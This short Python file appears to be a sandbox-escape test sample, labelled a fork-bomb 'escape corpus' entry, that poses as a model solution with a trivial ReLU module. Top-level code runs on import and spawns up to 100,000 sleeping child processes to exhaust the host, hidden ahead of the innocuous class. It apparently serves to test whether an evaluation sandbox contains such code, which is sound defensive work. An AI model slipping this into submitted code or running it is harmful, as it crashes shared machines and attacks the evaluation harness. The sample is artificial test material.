"""Escape corpus (fork bomb). Placeholders @...@ are filled by run_escape.py."""
import torch
import torch.nn as nn
import os, time
n = 0
try:
    while n < 100000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        n += 1
except OSError as e:
    raise RuntimeError(f"fork failed after {n} children: {e}")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
